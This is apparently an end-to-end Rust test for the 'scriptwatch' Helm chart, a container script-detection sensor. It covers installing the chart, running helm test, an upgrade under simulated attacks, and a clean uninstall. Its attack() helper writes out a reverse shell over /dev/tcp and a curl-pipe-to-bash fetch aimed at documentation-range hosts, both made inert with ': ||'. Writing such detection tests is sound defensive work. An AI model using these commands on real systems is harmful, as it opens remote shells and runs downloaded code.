//! The chart in a cluster of two nodes: installed, proved by `helm test` and by the commands of the documentation, upgraded while
//! attacks go on, and uninstalled, after which nothing of it is left on a node.

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    path::{Path, PathBuf},
    sync::atomic::{AtomicBool, Ordering},
    time::{Duration, Instant},
};

use e2e::{
    cluster::{Cluster, Member},
    collectors,
    containerd::{Plan, Pod},
    daemon,
    image::Image,
    kubelet,
    manifests::Objects,
    outcome,
};
use serde_json::{Value, json};

const SHELL: &str = "docker.io/local/shell:1";
const SENSOR: &str = "DaemonSet scriptwatch-sensor";
const COLLECTOR: &str = "Deployment scriptwatch-collector";
/// The program of a container that only its user may read.
const BASH: &str = "/opt/own/bash";

/// Malicious by any model, and inert: `:` runs instead. Each number is another script.
fn attack(number: usize) -> String {
    format!(": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x{number}x | bash")
}

fn images() -> anyhow::Result<Vec<Image>> {
    let shell = Image::new(SHELL)
        .program("/bin/bash")?
        .program("/bin/sleep")?
        .private(BASH, Path::new("/bin/bash"), 1234)
        .entrypoint(&["/bin/sleep", "86400"]);
    // What the pod of `helm test` names.
    let busybox = Image::new("docker.io/library/busybox:1.37")
        .file("/bin/busybox", Path::new("/bin/busybox"))
        .link("/bin/sh", "busybox")
        .link("/bin/sleep", "busybox")
        .link("/bin/wget", "busybox");
    Ok(vec![shell, busybox])
}

/// The release, as its controllers keep it.
struct Release<'a> {
    cluster: &'a Cluster,
    objects: Objects,
    members: Vec<Member>,
    /// How many pods were made.
    made: usize,
    /// Since when each node's sensor was ready, and when it was told to end.
    watched: [Vec<(Instant, Option<Instant>)>; 2],
    printed: String,
}

impl<'a> Release<'a> {
    fn install(cluster: &'a Cluster, objects: Objects) -> Self {
        let mut release = Self {
            cluster,
            objects,
            members: Vec::new(),
            made: 0,
            watched: [Vec::new(), Vec::new()],
            printed: String::new(),
        };
        release.start(0, "collector");
        for node in 0..2 {
            release.start(node, "sensor");
        }
        release
    }

    fn template(&self, component: &str) -> Value {
        let mut template =
            self.objects[if component == "sensor" { SENSOR } else { COLLECTOR }]["spec"]["template"].clone();
        if component == "sensor" {
            let capabilities = kubelet::capabilities(&template);
            template["spec"]["containers"][0]["securityContext"]["capabilities"]["add"] = json!(capabilities);
        }
        template
    }

    fn start(&mut self, node: usize, component: &'static str) {
        let template = self.template(component);
        self.made += 1;
        let name = format!("scriptwatch-{component}-{}", self.made);
        let which = (node, component, name.as_str());
        self.cluster.run(&self.objects, &mut self.members, which, &template).expect("a pod");
        let member = self.members.last().expect("a pod");
        let container = &template["spec"]["containers"][0];
        let probe = &container["readinessProbe"]["httpGet"];
        let ports = container["ports"].as_array().expect("ports");
        let port = ports.iter().find(|port| port["name"] == probe["port"]).expect("the probe's port");
        let port = port["containerPort"].as_u64().expect("a number") as u16;
        let path = probe["path"].as_str().expect("a path");
        let is_ready = || self.cluster.probe(member, port, path) == 200;
        self.cluster
            .kubelet(node, |kubelet| kubelet.wait("ready", &member.running, is_ready))
            .expect("readiness");
        self.cluster.enforce(&self.objects, &self.members, None).expect("rules");
        let member = self.members.last().expect("a pod");
        assert!(
            self.cluster.is_policed(&self.objects, member).expect("policies"),
            "no policy is about {name}"
        );
        if component == "sensor" {
            self.watched[node].push((Instant::now(), None));
        }
    }

    fn end(&mut self, node: usize, component: &'static str) {
        let at = self.members.iter().position(|m| (m.node, m.component) == (node, component)).expect("a pod");
        let member = self.members.remove(at);
        if component == "sensor"
            && let Some((_, until)) = self.watched[node].last_mut()
        {
            *until = Some(Instant::now());
        }
        let printed = self.cluster.kubelet(node, |kubelet| kubelet.delete(&member.running)).expect("its end");
        self.printed += &printed;
    }

    /// Other objects: what changed is replaced, the collector at once, sensors one node after the other.
    fn upgrade(&mut self, objects: Objects) {
        let before = std::mem::replace(&mut self.objects, objects);
        let is_changed = |key: &str| before[key]["spec"]["template"] != self.objects[key]["spec"]["template"];
        let (collector, sensors) = (is_changed(COLLECTOR), is_changed(SENSOR));
        assert!(collector && sensors, "the upgrade replaces no pods");
        for key in [COLLECTOR, SENSOR] {
            assert_eq!(
                before[key]["spec"]["selector"], self.objects[key]["spec"]["selector"],
                "no API server takes that"
            );
        }
        // What is done below.
        assert_eq!(self.objects[COLLECTOR]["spec"]["strategy"]["type"], "Recreate");
        assert_eq!(self.objects[SENSOR]["spec"]["updateStrategy"]["rollingUpdate"]["maxUnavailable"], 1);
        self.end(0, "collector");
        self.start(0, "collector");
        for node in 0..2 {
            self.end(node, "sensor");
            self.start(node, "sensor");
        }
    }

    fn member(&self, node: usize, component: &str) -> &Member {
        self.members.iter().find(|m| (m.node, m.component) == (node, component)).expect("a pod")
    }

    fn database(&self) -> PathBuf {
        self.cluster.nodes[0].dir.path().join("claims/scriptwatch-collector")
    }

    fn findings(&self) -> Vec<Value> {
        collectors::findings(&self.database()).expect("findings")
    }

    fn log(&self) -> String {
        let each = self.members.iter().map(|member| {
            self.cluster.nodes[member.node].containerd.output(&member.running.pod, member.component)
        });
        each.collect()
    }

    /// Waits until nothing is missing any more.
    fn wait_for(&self, missing: impl Fn(&[Value]) -> Vec<String>) -> Vec<Value> {
        let start = Instant::now();
        loop {
            let findings = self.findings();
            let missing = missing(&findings);
            if missing.is_empty() {
                return findings;
            }
            let is_late = start.elapsed() > Duration::from_secs(40);
            assert!(!is_late, "{} findings, without {missing:#?}: {}", findings.len(), self.log());
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

fn property<'a>(finding: &'a Value, key: &str) -> &'a str {
    finding["sourceProperties"][key].as_str().unwrap_or_default()
}

fn contents(finding: &Value) -> &str {
    finding["processes"][0]["script"]["contents"].as_str().unwrap_or_default()
}

/// Starts the pod `web-N` of a node, whose shell belongs to its own user.
fn web(cluster: &Cluster, node: usize, script: &str) -> (Pod, String) {
    let containerd = &cluster.nodes[node].containerd;
    let pod = containerd.pod("shop", &format!("web-{node}")).expect("a pod");
    let command = [BASH, "-c", script];
    let plan = Plan { name: "app", image: SHELL, command: &command, user: Some(1234), ..Plan::default() };
    let id = containerd.run(&pod, &plan).expect("a container");
    (pod, id)
}

/// Maps, programs and links of BPF that a process holds.
fn bpf_objects(pid: u32) -> BTreeSet<(String, u32)> {
    let mut all = BTreeSet::new();
    for file in fs::read_dir(format!("/proc/{pid}/fdinfo")).into_iter().flatten().flatten() {
        for line in fs::read_to_string(file.path()).unwrap_or_default().lines() {
            if let Some((name @ ("map_id" | "prog_id" | "link_id"), id)) = line.split_once(":\t")
                && let Ok(id) = id.trim().parse()
            {
                all.insert((name.to_owned(), id));
            }
        }
    }
    all
}

/// Those of them that the kernel still has.
fn still_there(all: &BTreeSet<(String, u32)>) -> Vec<&(String, u32)> {
    let programs: BTreeSet<u32> = aya::programs::loaded_programs().flatten().map(|p| p.id()).collect();
    let maps: BTreeSet<u32> = aya::maps::loaded_maps().flatten().map(|m| m.id()).collect();
    let links: BTreeSet<u32> = aya::programs::loaded_links().flatten().map(|l| l.id()).collect();
    let is_there = |(name, id): &&(String, u32)| match name.as_str() {
        "map_id" => maps.contains(id),
        "prog_id" => programs.contains(id),
        _ => links.contains(id),
    };
    all.iter().filter(is_there).collect()
}

/// The processes of sensors in containers of the release.
fn sensors(release: &Release<'_>) -> Vec<u32> {
    let ids: Vec<&String> = release.members.iter().flat_map(|m| m.running.containers.values()).collect();
    let processes = fs::read_dir("/proc").expect("processes").flatten();
    let numbers = processes.filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok());
    let is_ours = |pid: &u32| {
        let read = |file: &str| fs::read_to_string(format!("/proc/{pid}/{file}")).unwrap_or_default();
        let cgroup = read("cgroup");
        read("comm").trim() == "sensor" && ids.iter().any(|id| cgroup.contains(id.as_str()))
    };
    numbers.filter(is_ours).collect()
}

/// Commands of the documentation that run in a pod of the release, as (component, words).
fn documented() -> Vec<(String, Vec<String>)> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let texts = ["docs/deploy.md", "docs/troubleshooting.md", "deploy/chart/templates/NOTES.txt"];
    let mut commands = Vec::new();
    for text in texts.map(|name| fs::read_to_string(root.join(name)).expect("a document")) {
        let text = text
            .replace("{{ .Release.Namespace }}", "scriptwatch")
            .replace("{{ include \"scriptwatch.name\" . }}", "scriptwatch")
            .replace("{{ .Values.sensor.port }}", "7601");
        for line in text.lines() {
            let Some((pod, command)) = line
                .trim()
                .strip_prefix("kubectl -n scriptwatch exec ")
                .and_then(|rest| rest.split_once(" -- "))
            else {
                continue;
            };
            let component = pod.rsplit('-').next().expect("a component").to_owned();
            commands.push((component, command.split_whitespace().map(str::to_owned).collect()));
        }
    }
    commands
}

#[test]
fn the_chart_is_installed_proved_upgraded_under_load_and_uninstalled() {
    let Some(chart) = std::env::var_os("SCRIPTWATCH_TEST_CHART").map(PathBuf::from) else {
        assert!(std::env::var_os("CI").is_none(), "SCRIPTWATCH_TEST_CHART: run this with `cargo xtask test`");
        eprintln!("==> SKIPPED: the chart in a cluster: it was not rendered");
        return;
    };
    let image = std::env::var_os("SCRIPTWATCH_TEST_IMAGE")
        .expect("SCRIPTWATCH_TEST_IMAGE: run this with `cargo xtask test`");
    let cluster = Cluster::start(images, Path::new(&image)).expect("a cluster");
    let objects = |name: &str| cluster.objects(&chart.join(name)).expect("objects");
    let mut release = Release::install(&cluster, objects("installed.yaml"));

    // A script and what it evaluates, in a shell that only its owner may read, on each node.
    let script = format!("/bin/sleep 0.3; eval '{}'; exec /bin/sleep 86400", attack(0));
    let webs = [0, 1].map(|node| web(&cluster, node, &script));
    let named = |findings: &[Value], pod: &str, node: &str, origin: &str| {
        findings.iter().any(|finding| {
            let bash = outcome::sha256(&fs::read("/bin/bash").expect("bash"));
            let binary = &finding["processes"][0]["binary"];
            (property(finding, "Pod_Name"), property(finding, "Node_Name")) == (pod, node)
                && property(finding, "Script_Origin") == origin
                && property(finding, "Container_Image_Id").starts_with("sha256:")
                && (binary["path"] == BASH && binary["sha256"] == bash.as_str())
        })
    };
    release.wait_for(|findings| {
        let pods = [("web-0", "node-1"), ("web-1", "node-2")];
        let all = pods.iter().flat_map(|pod| ["command", "eval"].map(|origin| (pod.0, pod.1, origin)));
        let missing = all.filter(|(pod, node, origin)| !named(findings, pod, node, origin));
        missing.map(|one| format!("{one:?}")).collect()
    });

    proved(&mut release, &objects("test.yaml"));
    upgraded(&mut release, objects("upgraded.yaml"), &webs);
    uninstalled(release, &webs);
}

/// `helm test`, and every command that the documents have for a pod of the release.
fn proved(release: &mut Release<'_>, test: &Objects) {
    let cluster = release.cluster;
    let (_, pod) = test.iter().find(|(key, _)| key.starts_with("Pod ")).expect("the pod of helm test");
    let name = pod["metadata"]["name"].as_str().expect("a name");
    cluster.run(&release.objects, &mut release.members, (0, "test", name), pod).expect("a pod");
    let tested = release.members.pop().expect("the test");
    for (container, id) in &tested.running.containers {
        let containerd = &cluster.nodes[0].containerd;
        let status = containerd.wait(id).expect("its end");
        let said = containerd.output(&tested.running.pod, container);
        assert_eq!(status.exit_code, 0, "{container}: {said} {}", release.log());
    }
    cluster.kubelet(0, |kubelet| kubelet.delete(&tested.running)).expect("its end");

    let commands = documented();
    assert!(commands.len() >= 5, "commands of the documents are not found: {commands:?}");
    let mut said = BTreeMap::new();
    for (component, command) in &commands {
        let member = release.member(0, component);
        let id = &member.running.containers[component];
        let words: Vec<&str> = command.iter().map(String::as_str).collect();
        let (code, printed) = cluster.nodes[0].containerd.exec_status(id, &words).expect("an exec");
        assert_eq!(code, 0, "{command:?}: {printed}");
        said.insert(command.join(" "), printed);
    }
    assert!(said["/usr/bin/collector list"].contains("shop/web-0"), "{said:#?}");
    let nodes = &said["/usr/bin/collector nodes"];
    assert!(nodes.contains("node-1") && nodes.contains("node-2"), "{nodes}");
}

/// Ends the attackers when it goes.
struct Ends<'a>(&'a AtomicBool);

impl Drop for Ends<'_> {
    fn drop(&mut self) {
        self.0.store(false, Ordering::Relaxed);
    }
}

/// Attacks on both nodes while everything is replaced: each that a sensor watched from its begin to its end is found once, with
/// its pod and node, and none twice.
fn upgraded(release: &mut Release<'_>, objects: Objects, webs: &[(Pod, String); 2]) {
    let cluster = release.cluster;
    let goes_on = AtomicBool::new(true);
    let ran: Vec<(usize, usize, Instant, Instant)> = std::thread::scope(|scope| {
        // Also when the upgrade fails: the scope waits for the attackers.
        let ends = Ends(&goes_on);
        let attackers = [0, 1].map(|node| {
            let (goes_on, web) = (&goes_on, &webs[node].1);
            scope.spawn(move || {
                let mut ran = Vec::new();
                for number in (1..).map(|n| 2 * n + node) {
                    let begun = Instant::now();
                    let script = attack(number);
                    cluster.nodes[node].containerd.exec(web, &[BASH, "-c", &script]).expect("an exec");
                    ran.push((node, number, begun, Instant::now()));
                    if !goes_on.load(Ordering::Relaxed) {
                        break;
                    }
                }
                ran
            })
        });
        release.upgrade(objects);
        // And some when all is new.
        std::thread::sleep(Duration::from_secs(1));
        drop(ends);
        attackers.into_iter().flat_map(|attacker| attacker.join().expect("an attacker")).collect()
    });
    let of = |findings: &[Value], node: usize, number: usize| {
        let is_it = |finding: &&Value| {
            property(finding, "Pod_Name") == format!("web-{node}")
                && property(finding, "Script_Origin") == "command"
                && contents(finding).trim_end() == attack(number)
        };
        findings.iter().filter(is_it).cloned().collect::<Vec<_>>()
    };
    let is_watched = |node: usize, begun: Instant, ended: Instant| {
        let holds = |(from, until): &(Instant, Option<Instant>)| {
            *from < begun && until.is_none_or(|until| ended < until)
        };
        release.watched[node].iter().any(holds)
    };
    let watched: Vec<_> =
        ran.iter().filter(|(node, _, begun, ended)| is_watched(*node, *begun, *ended)).collect();
    assert!(
        watched.len() > 20 && watched.len() < ran.len(),
        "{} of {} were watched",
        watched.len(),
        ran.len()
    );
    let begin = ran.iter().map(|(_, _, begun, _)| *begun).min().expect("an attack");
    let findings = release.wait_for(|findings| {
        let missing = watched.iter().filter(|(node, number, ..)| of(findings, *node, *number).is_empty());
        let told = missing.map(|(node, number, begun, ended)| {
            let at = (*begun - begin, *ended - begin);
            let text = attack(*number);
            let by = findings.iter().filter(|f| contents(f).contains(&text));
            let by: Vec<_> = by.map(|f| (property(f, "Node_Name"), property(f, "Pod_Name"))).collect();
            format!("{number} on node {node}, from {:?} to {:?}; seen by {by:?}", at.0, at.1)
        });
        told.collect()
    });
    for (node, number, ..) in &ran {
        let found = of(&findings, *node, *number);
        assert!(found.len() <= 1, "{number} is found {} times: {found:#?}", found.len());
        for finding in found {
            assert_eq!(property(&finding, "Node_Name"), format!("node-{}", node + 1));
        }
    }
    eprintln!("{} attacks, {} of them watched and found once", ran.len(), watched.len());
}

/// What runs goes on, and neither in the kernel nor in the node's mounts is anything left; no finding waits.
fn uninstalled(mut release: Release<'_>, webs: &[(Pod, String); 2]) {
    let cluster = release.cluster;
    let pids = sensors(&release);
    assert_eq!(pids.len(), 2, "the sensors' processes are not found");
    let held: BTreeSet<_> = pids.iter().flat_map(|pid| bpf_objects(*pid)).collect();
    for kind in ["map_id", "prog_id", "link_id"] {
        assert!(held.iter().any(|(name, _)| name == kind), "no {kind} is seen: {held:?}");
    }
    assert_eq!(still_there(&held).len(), held.len(), "the kernel does not tell what it has");
    let sandboxes: Vec<String> = release.members.iter().map(|m| m.running.pod.sandbox.clone()).collect();
    release.printed.clear();
    for node in 0..2 {
        release.end(node, "sensor");
    }
    release.end(0, "collector");
    let total = |line: &str, name: &str| {
        line.split(name).nth(1).and_then(|rest| rest.split(' ').next()?.trim().parse::<u64>().ok())
    };
    let totals: Vec<&str> =
        release.printed.lines().filter(|line| line.contains("findings_spooled_total")).collect();
    assert_eq!(totals.len(), 2, "not both sensors ended cleanly: {}", release.printed);
    for line in totals {
        assert_eq!(total(line, "spool_findings="), Some(0), "findings wait: {line}");
    }
    // The kernel frees them when no processor can be using them any more.
    daemon::wait_until("the kernel has nothing of the sensors", || still_there(&held).is_empty());
    let mounts = fs::read_to_string("/proc/self/mountinfo").expect("mounts");
    for sandbox in &sandboxes {
        assert!(!mounts.contains(sandbox.as_str()), "a mount of {sandbox} is left");
    }
    let networks = |node: usize| {
        let state = cluster.nodes[node].containerd.state();
        mounts
            .lines()
            .filter(|line| line.contains(&format!("{}/", state.display())) && line.contains("netns"))
            .count()
    };
    // Those of the two pods that go on.
    assert_eq!([networks(0), networks(1)], [1, 1], "networks of pods are left: {mounts}");
    for (node, (_, id)) in webs.iter().enumerate() {
        let said = cluster.nodes[node].containerd.exec(id, &[BASH, "-c", "echo goes on"]).expect("an exec");
        assert_eq!(said, "goes on\n");
    }
}
